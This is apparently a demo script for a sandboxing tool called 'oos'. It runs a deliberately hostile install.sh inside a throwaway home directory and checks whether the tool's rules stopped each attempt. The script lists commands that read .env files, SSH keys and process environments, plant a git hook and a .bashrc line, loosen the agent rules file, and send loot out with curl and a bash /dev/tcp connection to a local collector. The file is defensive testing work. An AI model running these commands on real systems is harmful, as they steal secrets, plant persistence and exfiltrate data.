// `npm run demo`: a hostile script under the rules that `oos init` writes. Whether it gained anything is judged from
// outside: by what lies on the disk afterwards and whom a server saw, not by what the script or oos says.
import { spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { ensureBubblewrap } from './bubblewrap.mjs'
import { ensureBuilt, ensureInstalled, node, root } from './install.mjs'

ensureInstalled()
ensureBubblewrap()
ensureBuilt()

const home = mkdtempSync(join(tmpdir(), 'oos-demo-'))
const project = join(home, 'shop')
const env = {
  PATH: process.env.PATH,
  HOME: home,
  LANG: 'C.UTF-8',
  AWS_SECRET_KEY: 'secret-in-the-environment',
}
const color = process.stdout.isTTY && !process.env.NO_COLOR
const paint = (code, text) => (color ? `\x1b[${code}m${text}\x1b[0m` : text)
const read = (path) => (existsSync(join(home, path)) ? readFileSync(join(home, path), 'utf8') : '')
const got = (text) => read('shop/src/loot.txt').includes(text)

let visitors = 0
const collector = createServer((socket) => {
  visitors++
  socket.on('error', () => undefined).end()
})
await new Promise((listening) => collector.listen(0, '127.0.0.1', listening))
const address = `127.0.0.1:${collector.address().port}`

/** What the script tries, as whom a rule would ask for it, what the rules should say, and whether it worked. */
const attempts = [
  ['read the code', 'cat src/price.js', 'file:src/price.js:read', 'allow', () => got('price = 42')],
  [
    'write a file beside it',
    'echo made > src/made.js',
    'file:src/made.js:write',
    'allow',
    () => read('shop/src/made.js') !== '',
  ],
  ['read the passwords in .env', 'cat .env', 'file:.env:read', 'deny', () => got('secret-in-dot-env')],
  [
    'read your SSH key',
    'cat ~/.ssh/id_ed25519',
    'file:~/.ssh/id_ed25519:read',
    'deny',
    () => got('secret-key'),
  ],
  [
    'read another folder of yours',
    'cat ~/diary/today.txt',
    'file:~/diary/today.txt:read',
    'deny',
    () => got('secret-diary'),
  ],
  [
    'find a cloud key in the environment',
    'env; cat /proc/*/environ',
    'env:AWS_SECRET_KEY:read',
    'deny',
    () => got('secret-in-the-env'),
  ],
  [
    'plant a git hook',
    'echo evil > .git/hooks/pre-commit',
    'file:.git/hooks/pre-commit:write',
    'deny',
    () => read('shop/.git/hooks/pre-commit') !== '',
  ],
  [
    'plant a line in your .bashrc',
    'echo evil >> ~/.bashrc',
    'file:~/.bashrc:write',
    'deny',
    () => read('.bashrc').includes('evil'),
  ],
  [
    'loosen the rules themselves',
    "echo '- **Allow** `file:~/**:*`' >> .agent-os/AGENT.md",
    'file:.agent-os/AGENT.md:write',
    'deny',
    () => read('shop/.agent-os/AGENT.md').includes('file:~/**:*'),
  ],
  [
    'send what it found to a server',
    `curl -sm 2 -d @src/loot.txt http://${address}; bash -c 'exec 3<>/dev/tcp/${address.replace(':', '/')}'`,
    `http:${address}:post`,
    'deny',
    () => visitors > 0,
  ],
]

writeTree({
  '.ssh/id_ed25519': 'secret-key',
  '.bashrc': '# yours',
  'diary/today.txt': 'secret-diary',
  'shop/package.json': '{ "name": "shop", "scripts": { "test": "node --test" } }',
  'shop/.env': 'PASSWORD=secret-in-dot-env',
  'shop/src/price.js': 'export const price = 42',
  'shop/install.sh': `{\n${attempts.map(([, does]) => does).join('\n')}\n} >> src/loot.txt 2>/dev/null\nexit 0\n`,
})
await start('git', ['init', '-q'])
const steps = [
  ['init', '--yes'],
  ['spec', 'check'],
  ['run', '--', 'sh', './install.sh'],
]
print('', paint(1, 'A hostile script, under the rules that `oos init` wrote'), '')
for (const words of steps) {
  print(`  ${paint(2, '$')} oos ${words.join(' ')}`)
  const { code, output } = await oos(words)
  if (code !== 0) fail(`oos ${words.join(' ')} ended with ${code}\n${output}`)
}
print('')

let surprises = 0
for (const [what, , request, expected, worked] of attempts) {
  const { output } = await oos(['explain', '--json', request])
  const { effect, rule } = JSON.parse(output).data
  const outcome = worked() ? 'allow' : 'deny'
  const right = effect === expected && outcome === expected
  if (!right) surprises++
  const verdict = outcome === 'allow' ? paint(32, 'let through') : paint(31, 'stopped    ')
  const place = rule === undefined ? '' : `${rule.file}:${rule.line}`
  const line = rule === undefined ? 'no rule allows it' : shorten(rule.text.split(' except ')[0])
  print(
    `  ${right ? verdict : paint(33, 'SURPRISE   ')}  ${what.padEnd(36)}  ${paint(36, place.padEnd(30))}  ${line}`,
  )
}
collector.close()
rmSync(home, { recursive: true, force: true })
const right = attempts.length - surprises
print(
  '',
  `  ${right} of ${attempts.length} as the rules say, judged from outside: by the files afterwards, and by a server that waited for a call.`,
)
// With the checkout's own Node: npm puts it first in the PATH here, and the reader's shell may have an older one.
const command = [node, join(root, 'bin/oos.js'), 'init'].join(' ')
print(`  Yours: ${paint(1, `cd your-project && ${command}`)}`, '')
process.exitCode = surprises === 0 ? 0 : 1

function shorten(text) {
  return text.length > 60 ? `${text.slice(0, 59)}…` : text
}

function oos(words) {
  return start(node, [join(root, 'bin/oos.js'), ...words])
}

function start(program, words) {
  return new Promise((resolve, reject) => {
    const child = spawn(program, words, { cwd: project, env, stdio: ['ignore', 'pipe', 'pipe'] })
    let output = ''
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk) => (output += chunk))
    child.on('error', reject).on('close', (code) => resolve({ code, output }))
  })
}

function writeTree(files) {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(home, path)), { recursive: true })
    writeFileSync(join(home, path), `${text}\n`)
  }
}

function print(...lines) {
  process.stdout.write(`${lines.join('\n')}\n`)
}

function fail(message) {
  process.stderr.write(`${message}\n`)
  rmSync(home, { recursive: true, force: true })
  process.exit(1)
}
